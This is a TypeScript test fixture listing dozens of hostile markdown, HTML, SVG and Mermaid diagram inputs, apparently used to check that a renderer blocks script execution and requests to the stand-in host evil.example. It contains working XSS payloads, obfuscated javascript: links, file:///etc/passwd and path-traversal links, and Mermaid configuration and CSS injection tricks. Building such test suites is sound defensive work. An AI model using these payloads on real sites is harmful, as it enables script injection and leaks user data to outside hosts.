/** Where a payload wants to phone: nothing may ever be asked of it. */
export const FOREIGN = 'https://evil.example';

/** A text that tries to do what a text must not. If it succeeds, it has called `window.executed()` or asked `FOREIGN`. */
export interface Hostile {
  readonly name: string;
  readonly markdown: string;
}

const RUN = 'window.executed()';
const fence = (diagram: string) => `\`\`\`mermaid\n${diagram}\n\`\`\``;

/** Ours to keep growing: each was thought of, or found, as a way in. */
export const HOSTILE: readonly Hostile[] = [
  { name: 'a script', markdown: `<script>${RUN}</script>` },
  { name: 'a script from elsewhere', markdown: `<script src="${FOREIGN}/x.js"></script>` },
  { name: 'a script in a list', markdown: `- a\n  <script>${RUN}</script>\n- b` },
  { name: 'a picture that fails', markdown: `<img src=x onerror="${RUN}">` },
  { name: 'a picture without blanks', markdown: `<img/src=x/onerror=${RUN}>` },
  { name: 'a drawing that loads', markdown: `<svg onload="${RUN}"></svg>` },
  { name: 'a drawing with a script', markdown: `<svg><script>${RUN}</script></svg>` },
  { name: 'a frame', markdown: `<iframe src="javascript:${RUN}"></iframe>` },
  { name: 'a frame with a document', markdown: `<iframe srcdoc="<script>parent.executed()</script>"></iframe>` },
  { name: 'an object', markdown: `<object data="${FOREIGN}/x.swf"></object><embed src="${FOREIGN}/y">` },
  { name: 'a style sheet from elsewhere', markdown: `<link rel="stylesheet" href="${FOREIGN}/x.css">` },
  { name: 'a style that imports', markdown: `<style>@import url("${FOREIGN}/x.css");</style>` },
  { name: 'a background', markdown: `<div style="background:url(${FOREIGN}/x.png)">x</div>` },
  { name: 'a base', markdown: `<base href="${FOREIGN}/">` },
  { name: 'a refresh', markdown: `<meta http-equiv="refresh" content="0;url=${FOREIGN}/">` },
  { name: 'a form', markdown: `<form action="${FOREIGN}"><input name=a autofocus onfocus="${RUN}"></form>` },
  { name: 'details that open', markdown: `<details open ontoggle="${RUN}">x</details>` },
  { name: 'a video', markdown: `<video poster="${FOREIGN}/p.png"><source src=x onerror="${RUN}"></video>` },
  { name: 'math that hides a picture', markdown: `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">` },
  { name: 'noscript that hides a picture', markdown: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  { name: 'a template', markdown: `<template><img src=x onerror="${RUN}"></template>` },
  { name: 'an animation', markdown: `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>` },
  { name: 'a comment that ends early', markdown: `<!--><img src=x onerror="${RUN}">-->` },
  { name: 'a link that runs', markdown: `[a](javascript:${RUN})` },
  { name: 'a link in capitals that runs', markdown: `[a](JaVaScRiPt:${RUN})` },
  { name: 'a link with a tab in it', markdown: `[a](java&#9;script:${RUN})` },
  { name: 'a link with an entity in it', markdown: `[a](javascript&colon;${RUN})` },
  { name: 'a link with escapes in it', markdown: `[a](javascript%3A${RUN})` },
  { name: 'a link with a control character', markdown: `[a](\u0001javascript:${RUN})` },
  { name: 'a link to old script', markdown: `[a](vbscript:msgbox(1))` },
  { name: 'a link to data', markdown: `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)` },
  { name: 'a link to a file', markdown: `[a](file:///etc/passwd)` },
  { name: 'a link by definition', markdown: `[a][b]\n\n[b]: javascript:${RUN}` },
  { name: 'a link in angles', markdown: `<javascript:${RUN}>` },
  { name: 'a link whose title breaks out', markdown: `[a](https://x.example 'x" onmouseover="${RUN}')` },
  { name: 'a link that breaks out', markdown: `[a](https://x.example/"onmouseover="${RUN})` },
  { name: 'a picture from elsewhere', markdown: `![a](${FOREIGN}/pixel.png)` },
  { name: 'a picture from elsewhere by definition', markdown: `![a][b]\n\n[b]: ${FOREIGN}/pixel.png` },
  { name: 'a picture without a scheme', markdown: `![a](//evil.example/pixel.png)` },
  { name: 'a picture with a turned slash', markdown: `![a](/\\evil.example/pixel.png)` },
  { name: 'a picture of data', markdown: `![a](data:image/svg+xml,<svg onload=${RUN}>)` },
  { name: 'a picture whose words break out', markdown: `![x" onerror="${RUN}](/x.png)` },
  { name: 'a link around a picture from elsewhere', markdown: `[![a](${FOREIGN}/x.png)](javascript:${RUN})` },
  { name: 'a language that breaks out', markdown: `\`\`\`js"><img/src=x/onerror=${RUN}>\nlet a;\n\`\`\`` },
  { name: 'code that breaks out', markdown: `\`\`\`html\n</code></pre><img src=x onerror="${RUN}">\n\`\`\`` },
  { name: 'a heading that breaks out', markdown: `# "><img src=x onerror=${RUN}>` },
  { name: 'a heading that takes a name', markdown: '# app\n\n# location\n\n# __proto__\n\n# constructor' },
  { name: 'a cell that breaks out', markdown: `| a |\n|:-:|\n| <img src=x onerror=${RUN}> |` },
  { name: 'a citation that breaks out', markdown: `See [src/"><img/src=x/onerror=${RUN}>.c:1-2].` },
  { name: 'a citation that leads out', markdown: 'See [../../etc/passwd.txt:1-2] and [src/../../x.c:3].' },
  { name: 'a citation with a link that runs', markdown: `See [src/a.c:1-2](javascript:${RUN}).` },
  { name: 'a citation in code that breaks out', markdown: `See \`[src/a"onclick="${RUN}".c:1]\`.` },
  { name: 'an address that is found', markdown: `javascript:${RUN} https://x.example/"onmouseover="${RUN}` },
  { name: 'a null character', markdown: `<scr\0ipt>${RUN}</scr\0ipt>` },
  { name: 'brackets without end', markdown: `${'['.repeat(5_000)}a${'](x)'.repeat(50)}` },
  { name: 'quotes without end', markdown: `${'> '.repeat(3_000)}a` },
  { name: 'a diagram with a script', markdown: fence(`graph TD\nA["<script>${RUN}</script>"] --> B`) },
  { name: 'a diagram with a picture that fails', markdown: fence(`graph TD\nA["<img src=x onerror='${RUN}'>"] --> B`) },
  {
    name: 'a diagram with a picture from elsewhere',
    markdown: fence(`graph TD\nA["<img src='${FOREIGN}/a.png'>"] --> B`),
  },
  { name: 'a diagram with a link that runs', markdown: fence(`graph TD\nA --> B\nclick A "javascript:${RUN}"`) },
  {
    name: 'a diagram with a link in a hurry',
    markdown: fence(`graph TD\nA --> B; click A href "javascript:${RUN}" _self`),
  },
  { name: 'a diagram that calls', markdown: fence(`graph TD\nA --> B\nclick A call executed()`) },
  {
    name: 'a diagram that loosens its bonds',
    markdown: fence(
      `%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\ngraph TD\nA["<img src=x onerror='${RUN}'>"]`,
    ),
  },
  {
    name: 'a diagram whose configuration hides another one',
    markdown: fence(`%%%%{x}%%{init: {"themeCSS": "* { background: url(${FOREIGN}/a.png) }"}}%%\ngraph TD\nA --> B`),
  },
  {
    name: 'a diagram whose configuration does not end',
    markdown: fence(`%%{init: {"fontFamily": "x; background: url(${FOREIGN}/a.png)"}}\ngraph TD\nA --> B`),
  },
  {
    name: 'a diagram with two heads',
    markdown: fence(
      `---\ntitle: x\n---\n---\nconfig:\n  fontFamily: "x; background: url(${FOREIGN}/a.png)"\n---\ngraph TD\nA --> B`,
    ),
  },
  {
    name: 'a diagram with a head behind a configuration',
    markdown: fence(
      `%%{x}%%---\nconfig:\n  fontFamily: "x; background: url(${FOREIGN}/a.png)"\n---\ngraph TD\nA --> B`,
    ),
  },
  {
    name: 'a diagram with an odd blank in its head',
    markdown: fence(`---\u00a0\nconfig:\n  fontFamily: "x; background: url(${FOREIGN}/a.png)"\n---\ngraph TD\nA --> B`),
  },
  {
    name: 'a diagram with a style sheet',
    markdown: fence(`%%{init: {"themeCSS": "* { background: url(${FOREIGN}/a.png) }"}}%%\ngraph TD\nA --> B`),
  },
  {
    name: 'a diagram with a font',
    markdown: fence(`---\nconfig:\n  fontFamily: "x;} @import url(${FOREIGN}/a.css); {"\n---\ngraph TD\nA --> B`),
  },
  { name: 'a diagram with a style', markdown: fence(`graph TD\nA --> B\nstyle A background:url(${FOREIGN}/a.png)`) },
  {
    name: 'a diagram with an escaped style',
    markdown: fence(`graph TD\nA --> B\nstyle A fill:\\75 rl(${FOREIGN}/a.svg#a)`),
  },
  { name: 'a diagram with a class', markdown: fence(`graph TD\nA:::x --> B\nclassDef x fill:url(${FOREIGN}/a.svg#a)`) },
  {
    name: 'a diagram with a picture as a node',
    markdown: fence(`flowchart TD\nA@{ img: "${FOREIGN}/a.png", label: "a" }`),
  },
  {
    name: 'a diagram with a picture behind a brace in quotes',
    markdown: fence(`flowchart TD\nA@{ label: "}", img: "${FOREIGN}/a.png" }`),
  },
  {
    name: 'a diagram with a picture behind what is taken out',
    markdown: fence(`flowchart TD\nA@%%{x}%%{ img: "${FOREIGN}/a.png", label: "a" }`),
  },
  {
    name: 'a diagram with a hidden picture',
    markdown: fence(`flowchart TD\nA@{ "\\u0069mg": "${FOREIGN}/a.png", label: "a" }`),
  },
  {
    name: 'a diagram whose actor links',
    markdown: fence(`sequenceDiagram\nparticipant A\nlink A: x @ javascript:${RUN}\nA->>A: b`),
  },
  { name: 'a diagram whose class links', markdown: fence(`classDiagram\nclass A\nlink A "javascript:${RUN}" "x"`) },
  { name: 'a diagram with math', markdown: fence(`graph TD\nA["$$\\\\href{javascript:${RUN}}{x}$$"] --> B`) },
  {
    name: 'a diagram whose name breaks out',
    markdown: `\`\`\`mermaid"><img/src=x/onerror=${RUN}>\ngraph TD\nA-->B\n\`\`\``,
  },
  { name: 'a diagram that is none', markdown: fence(`</pre><img src=x onerror="${RUN}">`) },
];

/** What Mermaid might give back if it were led astray. */
export const HOSTILE_DRAWINGS: readonly Hostile[] = [
  { name: 'a script', markdown: `<svg><script>${RUN}</script><g/></svg>` },
  { name: 'a handler', markdown: `<svg onload="${RUN}"><g onclick="${RUN}"/></svg>` },
  { name: 'HTML within', markdown: `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>` },
  { name: 'a link', markdown: `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>` },
  { name: 'a picture', markdown: `<svg><image href="${FOREIGN}/a.png"/></svg>` },
  { name: 'a use of another drawing', markdown: `<svg><use href="${FOREIGN}/a.svg#a"/></svg>` },
  { name: 'a fill from elsewhere', markdown: `<svg><rect fill="url(${FOREIGN}/a.svg#a)"/></svg>` },
  { name: 'a style from elsewhere', markdown: `<svg><rect style="background:url('${FOREIGN}/a.png')"/></svg>` },
  { name: 'a style that escapes', markdown: `<svg><rect style="background:\\75 rl(${FOREIGN}/a.png)"/></svg>` },
  { name: 'a sheet that imports', markdown: `<svg><style>@import "${FOREIGN}/a.css"; a{b:c}</style></svg>` },
  {
    name: 'a sheet with a background',
    markdown: `<svg><style>a{b:c} *{background:url(${FOREIGN}/a.png)}</style></svg>`,
  },
  { name: 'an animation', markdown: `<svg><animate attributeName="href" values="javascript:${RUN}"/></svg>` },
];
